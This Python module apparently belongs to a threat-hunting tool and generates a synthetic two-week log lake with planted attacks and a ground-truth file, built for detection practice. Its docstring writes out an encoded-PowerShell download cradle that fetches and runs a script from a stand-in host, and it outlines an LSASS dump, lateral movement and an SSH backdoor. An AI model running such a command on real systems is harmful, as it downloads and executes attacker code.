"""Generate a demo lake: two weeks of a small organisation's logs with planted attacks.

The demo lake is a folder of Parquet tables named and shaped like Microsoft
Sentinel tables (every table in `huntbook.data.lake.schemas.TABLES`), full of
benign background activity with office-hours rhythms, plus three planted
attacks whose every detail is written to ``ground_truth.json`` beside the
tables:

* a workstation intrusion on ``WS-017`` (user ``mgarcia``): a macro document
  starts an encoded PowerShell download cradle, the implant beacons to its C2
  every 60 s ±20 %, dumps LSASS, moves laterally with stolen ``adm-dkim``
  credentials to the file server and the domain controller, archives a share
  and uploads it to an external address;
* a password spray against Entra ID ending in one compromised account;
* an SSH brute force against ``lnx-bastion01`` followed by a backdoor user,
  an ``authorized_keys`` change and a root cron job.

The output depends only on ``seed``, ``scale``, ``days`` and ``end``: the
same arguments give the same rows. Example::

    from huntbook.data.lake.demo import generate_demo_lake

    truth = generate_demo_lake(Path("demo-lake"))
    truth.intrusion.decoded_command
    # "IEX (New-Object Net.WebClient).DownloadString('http://contoso-sync.net/s/upd.ps1')"
"""

from __future__ import annotations

import math
import os
import shutil
import uuid
from collections import defaultdict
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pyarrow as pa
import pyarrow.compute as pc

from huntbook.data.lake import _demo_cloud, _demo_linux, _demo_network, _demo_windows
from huntbook.data.lake._demo_arrow import DAY_US, TS, concat, sort_by_time
from huntbook.data.lake._demo_attacks import plant_spray, plant_ssh
from huntbook.data.lake._demo_context import Context
from huntbook.data.lake._demo_emit import Emitter
from huntbook.data.lake._demo_env import environment
from huntbook.data.lake._demo_intrusion import plant_intrusion
from huntbook.data.lake._demo_truth import (
    Alert,
    Beacon,
    Environment,
    GroundTruth,
    Hashes,
    Host,
    Indicator,
    Intrusion,
    LogonEvent,
    PasswordSpray,
    ProcessEvent,
    SshBruteForce,
    Stage,
    User,
)
from huntbook.data.lake.schemas import TABLES
from huntbook.data.lake.storage import write_part
from huntbook.errors import LakeError

__all__ = [
    "DEFAULT_END",
    "GROUND_TRUTH_FILE",
    "Alert",
    "Beacon",
    "Environment",
    "GroundTruth",
    "Hashes",
    "Host",
    "Indicator",
    "Intrusion",
    "LogonEvent",
    "PasswordSpray",
    "ProcessEvent",
    "SshBruteForce",
    "Stage",
    "User",
    "generate_demo_lake",
    "load_ground_truth",
]

DEFAULT_END = datetime(2026, 11, 20, tzinfo=UTC)
"""Where the demo data ends when no ``end`` is given (so runs are reproducible)."""
GROUND_TRUTH_FILE = "ground_truth.json"
"""The file in a demo lake that describes what was planted in it."""
MIN_DAYS = 7
"""The fewest days the planted attacks fit in."""
PART_ROWS = 250_000
"""Rows buffered per table before a Parquet part is written (bounds memory)."""

_Generator = Callable[[Context, int], dict[str, pa.Table]]
_GENERATORS: tuple[tuple[str, _Generator], ...] = (
    ("processes", _demo_windows.processes),
    ("logons", _demo_windows.logons),
    ("network", _demo_network.network),
    ("syslog", _demo_linux.syslog),
    ("sign-ins", _demo_cloud.signins),
    ("heartbeats", _demo_cloud.heartbeats),
    ("alerts", _demo_cloud.alerts),
)


def generate_demo_lake(
    path: Path,
    *,
    seed: int = 7,
    scale: float = 1.0,
    days: int = 14,
    end: datetime | None = None,
    progress: bool = False,
) -> GroundTruth:
    """Write a demo lake with planted attacks to *path* and return its ground truth.

    Parameters
    ----------
    path : Path
        The lake folder to create. It must not exist or be empty; the lake is
        written beside it first and moved into place when complete.
    seed : int
        Seed of every random choice; the same arguments give the same rows.
    scale : float
        Multiplies the benign background (``1.0``: about 300,000 rows over
        14 days; ``40``: about 10 million). The planted attacks do not change.
    days : int
        Days of data (at least 7).
    end : datetime, optional
        The end of the data (excluded), rounded down to midnight UTC; a naive
        value is taken as UTC. Default `DEFAULT_END`, so runs are reproducible.
    progress : bool
        Show a progress bar.

    Returns
    -------
    GroundTruth
        What was planted where; also written to ``path / "ground_truth.json"``.

    Raises
    ------
    ValueError
        If *seed*, *scale* or *days* is out of range.
    LakeError
        If *path* holds files already, or the lake cannot be written.
    """
    if isinstance(seed, bool) or not isinstance(seed, int) or seed < 0:
        raise ValueError(f"seed must be a non-negative integer, got {seed!r}")
    if not (isinstance(scale, int | float) and math.isfinite(scale) and scale > 0):
        raise ValueError(f"scale must be a positive number, got {scale!r}")
    if isinstance(days, bool) or not isinstance(days, int) or days < MIN_DAYS:
        raise ValueError(f"days must be an integer of at least {MIN_DAYS}, got {days!r}")
    path = Path(path)
    if path.exists() and (not path.is_dir() or any(path.iterdir())):
        raise LakeError(
            f"{path} already exists and is not an empty folder; "
            "choose a new folder for the demo lake or delete this one"
        )
    stop = _day_floor(end or DEFAULT_END)
    ctx = Context(seed, float(scale), days, stop - timedelta(days=days), environment())
    tmp = path.parent / f".{path.name}.tmp-{uuid.uuid4().hex[:8]}"
    try:
        tmp.mkdir(parents=True)
        with _progress(progress, days * len(_GENERATORS) + 1) as advance:
            truth = _generate(tmp, ctx, advance)
        (tmp / GROUND_TRUTH_FILE).write_text(truth.to_json(), encoding="utf-8")
        if path.exists():
            path.rmdir()
        os.replace(tmp, path)
    except OSError as exc:
        shutil.rmtree(tmp, ignore_errors=True)
        raise LakeError(f"could not write the demo lake to {path}: {exc}") from exc
    except BaseException:
        shutil.rmtree(tmp, ignore_errors=True)
        raise
    return truth


def load_ground_truth(path: Path) -> GroundTruth:
    """Return the ground truth of the demo lake at *path* (the lake folder).

    Raises
    ------
    LakeError
        If *path* has no readable ``ground_truth.json``.
    """
    path = Path(path)
    file = path if path.is_file() else path / GROUND_TRUTH_FILE
    try:
        text = file.read_text(encoding="utf-8")
    except FileNotFoundError:
        raise LakeError(
            f"{path} has no {GROUND_TRUTH_FILE}: it is not a demo lake "
            "(create one with huntbook.data.lake.demo.generate_demo_lake)"
        ) from None
    except OSError as exc:
        raise LakeError(f"could not read {file}: {exc}") from exc
    return GroundTruth.from_json(text)


def _day_floor(t: datetime) -> datetime:
    t = t.replace(tzinfo=UTC) if t.tzinfo is None else t.astimezone(UTC)
    return t.replace(hour=0, minute=0, second=0, microsecond=0)


def _intrusion_day(ctx: Context) -> int:
    """Return the weekday the intrusion starts on (spray the day before, SSH two after)."""
    day = ctx.days // 3
    while ctx.weekend(day) and day < ctx.days - 4:
        day += 1
    return day


def _generate(lake: Path, ctx: Context, advance: Callable[[str], None]) -> GroundTruth:
    em = Emitter(ctx)
    day = _intrusion_day(ctx)
    intrusion, alerts, indicators = plant_intrusion(em, day)
    spray, spray_alerts, spray_iocs = plant_spray(em, day - 1)
    ssh, ssh_alerts, ssh_iocs = plant_ssh(em, day + 2)
    alerts += spray_alerts + ssh_alerts
    indicators += spray_iocs + ssh_iocs
    _plant_threat_intel(em, indicators)
    planted = em.result()
    writer = _PartWriter(lake)
    attacker = frozenset(i.value for i in indicators)
    writer.add("ThreatIntelligenceIndicator", _demo_cloud.threat_intel(ctx, attacker))
    advance("threat intelligence")
    for d in range(ctx.days):
        lo, hi = ctx.day_start(d), min(ctx.day_start(d) + DAY_US, ctx.end_us)
        parts: dict[str, list[pa.Table]] = defaultdict(list)
        for label, generate in _GENERATORS:
            for name, table in generate(ctx, d).items():
                parts[name].append(table)
            advance(f"day {d + 1}/{ctx.days}: {label}")
        for name, table in planted.items():
            parts[name].append(_between(table, lo, hi if d < ctx.days - 1 else ctx.end_us))
        for name, tables in parts.items():
            writer.add(
                name, sort_by_time(_between(concat(tables), ctx.start_us, ctx.end_us), "TimeGenerated")
            )
    counts = writer.close()
    return GroundTruth(
        seed=ctx.seed,
        scale=ctx.scale,
        days=ctx.days,
        start=ctx.start,
        end=ctx.start + timedelta(days=ctx.days),
        environment=ctx.env,
        intrusion=intrusion,
        password_spray=spray,
        ssh_brute_force=ssh,
        indicators=tuple(indicators),
        alerts=tuple(sorted(alerts, key=lambda a: a.time)),
        row_counts=counts,
    )


def _plant_threat_intel(em: Emitter, indicators: list[Indicator]) -> None:
    threats = {"c2_ip": "C2", "spray_ip": "Proxy", "ssh_source_ip": "Botnet"}
    for i, ioc in enumerate(x for x in indicators if x.in_ti):
        threat = threats.get(ioc.role, "MaliciousActivity")
        when = em.ctx.start + timedelta(hours=6, minutes=17 * i)
        em.indicator(when, ioc.type, ioc.value, threat, f"{threat} infrastructure seen in the wild")


def _between(table: pa.Table, lo: int, hi: int) -> pa.Table:
    """Return the rows of *table* with ``lo <= TimeGenerated < hi`` (microseconds)."""
    t = table["TimeGenerated"]
    low, high = pa.scalar(lo, type=pa.int64()).cast(TS), pa.scalar(hi, type=pa.int64()).cast(TS)
    return table.filter(pc.and_(pc.greater_equal(t, low), pc.less(t, high)))


class _PartWriter:
    """Buffers rows per table and writes a Parquet part every `PART_ROWS` rows."""

    def __init__(self, lake: Path) -> None:
        self.lake = lake
        self.buffers: dict[str, list[pa.Table]] = defaultdict(list)
        self.buffered: dict[str, int] = defaultdict(int)
        self.counts: dict[str, int] = dict.fromkeys(TABLES, 0)

    def add(self, name: str, table: pa.Table) -> None:
        self.buffers[name].append(table)
        self.buffered[name] += table.num_rows
        if self.buffered[name] >= PART_ROWS:
            self.flush(name)

    def flush(self, name: str) -> None:
        if self.buffers[name]:
            table = pa.concat_tables(self.buffers[name])
            write_part(self.lake, name, table)
            self.counts[name] += table.num_rows
        self.buffers[name] = []
        self.buffered[name] = 0

    def close(self) -> dict[str, int]:
        for name in TABLES:
            if self.buffered[name] or not self.counts[name]:
                if not self.buffers[name]:
                    self.buffers[name].append(TABLES[name].arrow_schema().empty_table())
                self.flush(name)
        return dict(self.counts)


@contextmanager
def _progress(show: bool, total: int) -> Iterator[Callable[[str], None]]:
    if not show:
        yield lambda _label: None
        return
    from rich.progress import BarColumn, Progress, TextColumn, TimeElapsedColumn

    with Progress(
        TextColumn("[bold]demo lake[/bold] {task.description}"),
        BarColumn(),
        TextColumn("{task.completed}/{task.total}"),
        TimeElapsedColumn(),
    ) as bar:
        task = bar.add_task("planting attacks", total=total)

        def advance(label: str) -> None:
            bar.update(task, advance=1, description=label)

        yield advance
